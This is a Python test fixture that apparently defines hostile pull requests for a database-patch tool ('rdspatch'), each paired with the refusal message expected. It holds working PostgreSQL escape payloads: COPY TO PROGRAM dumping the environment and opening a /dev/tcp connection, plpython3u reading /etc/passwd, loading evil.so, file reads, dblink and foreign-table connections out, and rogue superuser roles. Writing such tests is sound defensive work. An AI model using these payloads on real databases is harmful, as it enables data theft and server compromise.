"""The files of a hostile pull request: each tries to reach what is not its own, by another way.

Written into a text are @PORT@, a listener of the test's; @OUT@, a directory that everybody may write to, with a file
`secret`; and @SERVER@, the directory of the scratch server's socket.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

NOTHING: Mapping[str, str] = {}


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """What one pull request holds, and how it ends.

    Attributes:
        says: A part of the sentence that `rdspatch lock` ends with; empty where the attack is without effect.
        links: Names in the patch directory, and what they point to.
        models: The text of the models' module.
    """

    says: str
    baseline: str = ""
    patch: str = "SELECT 1;"
    directives: tuple[str, ...] = ("verify: SELECT true",)
    links: Mapping[str, str] = field(default_factory=lambda: NOTHING)
    models: str = ""


PROGRAM = "COPY (SELECT 1) TO PROGRAM 'env > @OUT@/stolen; exec 3<>/dev/tcp/127.0.0.1/@PORT@'"
ELSEWHERE = "host=127.0.0.1 port=@PORT@ user=u password=p dbname=d connect_timeout=2"


def computed(sql: str) -> str:
    """A statement that no parser sees."""
    return f"DO $x$ BEGIN EXECUTE $y${sql}$y$; END $x$;"


def function(sql: str, options: str = "") -> str:
    return f"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql {options} AS $x$ BEGIN {sql} RETURN 1; END $x$;"


PRETENDS = (
    # Refused to the owner, so that a superuser might try.
    "IF NOT (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; "
    f"EXECUTE $y${PROGRAM}$y$;"
)
TABLE = "CREATE TABLE t (id int PRIMARY KEY); INSERT INTO t VALUES (1);"
FOREIGN = (
    "CREATE EXTENSION postgres_fdw; GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO CURRENT_USER;"
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw "
    "OPTIONS (host '127.0.0.1', port '@PORT@', dbname 'd', connect_timeout '2');"
    "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', password 'p');"
    "CREATE FOREIGN TABLE away (id int) SERVER s;"
)
BASE = """
from sqlalchemy import DDL, event, text
from sqlalchemy.orm import DeclarativeBase, Mapped, mapped_column
class Base(DeclarativeBase): pass
class T(Base):
    __tablename__ = "t"
    id: Mapped[int] = mapped_column(primary_key=True)
"""
_EXECUTES = 'event.listen(Base.metadata, "before_create", DDL({!r}))\n'


def models_that_send(sql: str) -> str:
    return BASE + _EXECUTES.format(sql)


HOSTILE: Mapping[str, Hostile] = {
    # Programs
    "a program": Hostile(patch=f"{PROGRAM};", says="reaches outside of the database"),
    "a program in a computed statement": Hostile(patch=computed(PROGRAM), says="denied to COPY to or from an external"),
    "a program in a function of the baseline": Hostile(
        baseline=function(f"EXECUTE $y${PROGRAM}$y$;"),
        patch="SELECT f();",
        says="denied to COPY to or from an external",
    ),
    "a program in a trigger of the baseline": Hostile(
        baseline=TABLE
        + f"CREATE FUNCTION g() RETURNS trigger LANGUAGE plpgsql AS $x$ BEGIN {PROGRAM}; RETURN NEW; END $x$;"
        "CREATE TRIGGER g BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION g();",
        patch="INSERT INTO t VALUES (2) ON CONFLICT DO NOTHING;",
        says="denied to COPY to or from an external",
    ),
    "a program in a definer's function": Hostile(
        baseline=function(f"{PROGRAM};", "SECURITY DEFINER LEAKPROOF"),
        patch="SELECT f();",
        says="denied to COPY to or from an external",
    ),
    "a program that a superuser is asked for, by a default": Hostile(
        baseline=TABLE + function(PRETENDS) + "ALTER TABLE t ADD COLUMN n int DEFAULT f();",
        says="insufficient_privilege",
    ),
    "a program that a superuser is asked for, by an index": Hostile(
        baseline=TABLE + function(PRETENDS, "IMMUTABLE") + "CREATE INDEX i ON t ((f()));", says="insufficient_privilege"
    ),
    "a program that a superuser is asked for, by EXPLAIN": Hostile(
        baseline=function(PRETENDS) + "EXPLAIN ANALYZE SELECT f();", says="insufficient_privilege"
    ),
    "a program that a superuser is asked for, by a partition": Hostile(
        baseline=function(PRETENDS)
        + "CREATE TABLE p (id int) PARTITION BY LIST (id); CREATE TABLE q PARTITION OF p FOR VALUES IN (f());",
        says="insufficient_privilege",
    ),
    "a program in a validator": Hostile(
        baseline="CREATE FUNCTION v(text[], oid) RETURNS void LANGUAGE plpgsql AS "
        f"$x$ BEGIN {PROGRAM}; END $x$; CREATE FOREIGN DATA WRAPPER w VALIDATOR v OPTIONS (a 'b');",
        says="permission denied to create foreign-data wrapper",
    ),
    "a program in an event trigger that fires always": Hostile(
        baseline=f"CREATE FUNCTION e() RETURNS event_trigger LANGUAGE plpgsql AS $x$ BEGIN {PROGRAM}; END $x$;"
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION e(); ALTER EVENT TRIGGER e ENABLE ALWAYS;",
        says="must be owner of event trigger e",
    ),
    "a program in an event trigger at login": Hostile(
        baseline=f"CREATE FUNCTION e() RETURNS event_trigger LANGUAGE plpgsql AS $x$ BEGIN {PROGRAM}; END $x$;"
        "CREATE EVENT TRIGGER e ON login EXECUTE FUNCTION e();",
        patch="CREATE EXTENSION IF NOT EXISTS pgstattuple;",
        says="",
    ),
    "a function of the catalog that is the superuser's": Hostile(
        baseline="ALTER FUNCTION pg_catalog.query_to_xml(text, boolean, boolean, text) SECURITY DEFINER;",
        says="must be owner of function pg_catalog.query_to_xml",
    ),
    "a function of the catalog that is replaced": Hostile(
        baseline="CREATE OR REPLACE FUNCTION pg_catalog.lower(text) RETURNS text LANGUAGE plpgsql IMMUTABLE STRICT "
        f"SECURITY DEFINER AS $x$ BEGIN {PROGRAM}; RETURN $1; END $x$;",
        says="permission denied for schema pg_catalog",
    ),
    "a function beside the catalog's": Hostile(
        baseline="SET search_path = pg_catalog; CREATE FUNCTION format(text, name) RETURNS text LANGUAGE plpgsql AS "
        f"$x$ BEGIN {PROGRAM}; RETURN ''; END $x$;",
        patch="CREATE EXTENSION IF NOT EXISTS pgstattuple;",
        says="permission denied for schema pg_catalog",
    ),
    "a function in C": Hostile(
        baseline="CREATE FUNCTION g(oid, text) RETURNS int LANGUAGE internal AS 'be_lo_export';",
        patch="SELECT g(1, '@OUT@/stolen');",
        says="permission denied for language internal",
    ),
    "an untrusted language": Hostile(
        patch=computed("CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS 'return open(\"/etc/passwd\").read()'"),
        says="plpython3u",
    ),
    "a shared library": Hostile(patch=computed("LOAD '/tmp/evil.so'"), says="not allowed"),
    "where libraries are looked for": Hostile(
        patch=computed("SET dynamic_library_path = '/tmp'"), says="permission denied to set parameter"
    ),
    "what every session loads": Hostile(
        patch=computed("SET session_preload_libraries = 'evil'"), says="session_preload_libraries"
    ),
    # Files
    "a file that is read": Hostile(patch=computed("SELECT pg_read_file('@OUT@/secret')"), says="denied for function"),
    "a file that is copied from": Hostile(
        patch="CREATE TABLE IF NOT EXISTS c (a text);" + computed("COPY c FROM '@OUT@/secret'"),
        says="denied to COPY from",
    ),
    "a file that is copied to": Hostile(patch=computed("COPY (SELECT 1) TO '@OUT@/stolen'"), says="denied to COPY to"),
    "a directory that is listed": Hostile(patch=computed("SELECT pg_ls_dir('@OUT@')"), says="denied for function"),
    "a large object from a file": Hostile(
        patch=computed("SELECT lo_import('@OUT@/secret')"), says="denied for function"
    ),
    "a large object to a file": Hostile(
        patch=computed("SELECT lo_export(lo_from_bytea(0, 'x'), '@OUT@/stolen')"), says="denied for function"
    ),
    "a tablespace": Hostile(patch=computed("CREATE TABLESPACE s LOCATION '@OUT@'"), says="cannot run inside"),
    "a tablespace of the baseline": Hostile(baseline="CREATE TABLESPACE s LOCATION '@OUT@';", says="permission denied"),
    "a table that is a file": Hostile(
        baseline="CREATE EXTENSION file_fdw; GRANT USAGE ON FOREIGN DATA WRAPPER file_fdw TO CURRENT_USER;"
        "CREATE SERVER s FOREIGN DATA WRAPPER file_fdw;"
        "CREATE FOREIGN TABLE away (a text) SERVER s OPTIONS (filename '@OUT@/secret');",
        patch="CREATE TABLE IF NOT EXISTS c AS SELECT * FROM away;",
        says="permission denied",
    ),
    "a link that is a patch": Hostile(links={"0002_link.sql": "@OUT@/secret"}, says="0002_link.sql"),
    "a link that is the baseline": Hostile(links={"baseline.sql": "@OUT@/secret"}, says="baseline.sql"),
    "a link that is the lock file": Hostile(links={"patches.lock.json": "@OUT@/secret"}, says="patches.lock.json"),
    # Network
    "dblink": Hostile(
        baseline="CREATE EXTENSION dblink;",
        patch=computed(f"SELECT dblink_connect('{ELSEWHERE}')"),
        says="permission denied for function dblink_connect",
    ),
    "dblink of the patch": Hostile(
        patch="CREATE EXTENSION IF NOT EXISTS dblink;"
        + computed(f"SELECT * FROM dblink('{ELSEWHERE}', 'x') AS r (a int)"),
        says="permission denied for function dblink",
    ),
    "dblink that is granted": Hostile(
        baseline="CREATE EXTENSION dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO PUBLIC;",
        patch=computed("SELECT dblink_connect_u('host=@SERVER@ user=postgres dbname=postgres')"),
        says="permission denied for function dblink_connect_u",
    ),
    "a foreign table": Hostile(
        baseline=FOREIGN,
        patch=computed("SELECT * FROM away"),
        says='foreign-data wrapper "postgres_fdw" has no handler',
    ),
    "a foreign table that the baseline reads": Hostile(
        baseline=FOREIGN + "CREATE TABLE c AS SELECT * FROM away;", says='"postgres_fdw" has no handler'
    ),
    "a schema of another server": Hostile(
        baseline=FOREIGN + "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public;",
        says='"postgres_fdw" has no handler',
    ),
    "a handler of one's own": Hostile(
        baseline="CREATE EXTENSION postgres_fdw; CREATE FOREIGN DATA WRAPPER w HANDLER postgres_fdw_handler;",
        says="permission denied to create foreign-data wrapper",
    ),
    "a subscription": Hostile(
        baseline=f"CREATE SUBSCRIPTION s CONNECTION '{ELSEWHERE}' PUBLICATION p;",
        says="permission denied to create subscription",
    ),
    "a subscription of the patch": Hostile(
        patch=computed(f"CREATE SUBSCRIPTION s CONNECTION '{ELSEWHERE}' PUBLICATION p WITH (create_slot = false)"),
        says="permission denied to create subscription",
    ),
    # The server itself, and later runs
    "a setting of the server": Hostile(
        baseline="ALTER SYSTEM SET archive_command = 'touch @OUT@/stolen';", says="permission denied to set parameter"
    ),
    "the server's configuration": Hostile(patch=computed("SELECT pg_reload_conf()"), says="denied for function"),
    "the settings of a database": Hostile(
        baseline="ALTER DATABASE template1 SET search_path = evil;", says="must be owner of database template1"
    ),
    "the settings of a role": Hostile(
        baseline="ALTER ROLE postgres SET search_path = evil;", says="permission denied to alter role"
    ),
    "a superuser's password": Hostile(
        baseline="ALTER ROLE postgres PASSWORD 'known';", says="permission denied to alter role"
    ),
    "a superuser of one's own": Hostile(
        baseline="CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'known';",
        patch=computed("SET ROLE evil") + computed(PROGRAM),
        says="denied to COPY to or from an external",
    ),
    "more rights": Hostile(
        baseline="ALTER ROLE CURRENT_USER SUPERUSER CREATEROLE;", says="permission denied to alter role"
    ),
    "a role that runs programs": Hostile(
        baseline="GRANT pg_execute_server_program TO CURRENT_USER;",
        patch=computed(PROGRAM),
        says="pg_execute_server_program",
    ),
    "an owner that runs programs": Hostile(
        patch="CREATE TABLE IF NOT EXISTS c (); ALTER TABLE c OWNER TO pg_execute_server_program;" + computed(PROGRAM),
        says="pg_execute_server_program",
    ),
    "a function of the superuser's that changes hands": Hostile(
        baseline="ALTER FUNCTION lo_export(oid, text) OWNER TO CURRENT_USER;",
        says="must be owner of function lo_export",
    ),
    "a comment that lets us drop a role": Hostile(
        baseline="COMMENT ON ROLE bystander IS 'made by rdspatch for a proof';", says=""
    ),
    "another database": Hostile(baseline="CREATE DATABASE evil;", says="permission denied to create database"),
    "another database that is dropped": Hostile(baseline="DROP DATABASE bystander;", says="database"),
    "a replication slot": Hostile(
        patch=computed("SELECT pg_create_physical_replication_slot('evil', true)"), says="permission denied"
    ),
    "a prepared transaction": Hostile(
        baseline="CREATE TABLE c (); COMMIT; BEGIN; CREATE TABLE d (); PREPARE TRANSACTION 'evil';", says="prepared"
    ),
    "a session that outlives its own": Hostile(
        patch=computed("ALTER ROLE CURRENT_USER SET search_path = evil"), says=""
    ),
    # Models
    "models that read the environment": Hostile(
        models=BASE + "import os\nraise SystemExit(repr(sorted(os.environ.items())))\n", says="calls sys.exit"
    ),
    "models that connect": Hostile(
        models=BASE + "import socket\nsocket.create_connection(('127.0.0.1', @PORT@))\n", says="without network"
    ),
    "models that send a program": Hostile(
        models=models_that_send(PROGRAM), says="denied to COPY to or from an external"
    ),
    "models that compute a program": Hostile(
        models=models_that_send(computed(PROGRAM)), says="denied to COPY to or from an external"
    ),
    "models whose default is code of a patch": Hostile(
        baseline=function(f"{PROGRAM};", "IMMUTABLE")
        + "CREATE TABLE t (id int PRIMARY KEY, n int NOT NULL DEFAULT f());",
        models=BASE + "    n: Mapped[int] = mapped_column(server_default=text('f() + 0'))\n",
        says="",
    ),
    "models with dblink": Hostile(
        models=BASE
        + _EXECUTES.format("CREATE EXTENSION IF NOT EXISTS dblink")
        + _EXECUTES.format(f"DO $x$ BEGIN PERFORM dblink_connect('{ELSEWHERE}'); END $x$"),
        says="permission denied for function dblink_connect",
    ),
    "models of nothing": Hostile(models="import antigravity_of_nobody\n", says="antigravity_of_nobody"),
}
